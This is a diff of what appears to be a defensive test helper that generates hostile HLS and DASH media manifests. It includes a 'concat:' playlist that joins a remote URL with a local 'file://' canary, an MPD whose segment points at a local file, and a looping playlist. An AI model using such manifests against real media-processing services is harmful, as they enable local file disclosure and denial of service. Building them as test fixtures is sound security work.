@@ -259,7 +259,9 @@ def hostile_files(canary: Path, address: str) -> dict[str, bytes]:
     endless = "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nsource\n"
     joined = f"#EXTM3U\n#EXTINF:9,\nconcat:{address}/head|file://{canary}\n#EXT-X-ENDLIST\n"
     mpd = '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period>'
-    mpd += f'<AdaptationSet mimeType="audio/mp4"><Representation id="1"><BaseURL>{address}/x.m4a</BaseURL><SegmentList>'
+    mpd += (
+        f'<AdaptationSet mimeType="audio/mp4"><Representation><BaseURL>{address}/x.m4a</BaseURL><SegmentList>'
+    )
     mpd += (
         f'<SegmentURL media="file://{canary}"/></SegmentList></Representation></AdaptationSet></Period></MPD>'
     )
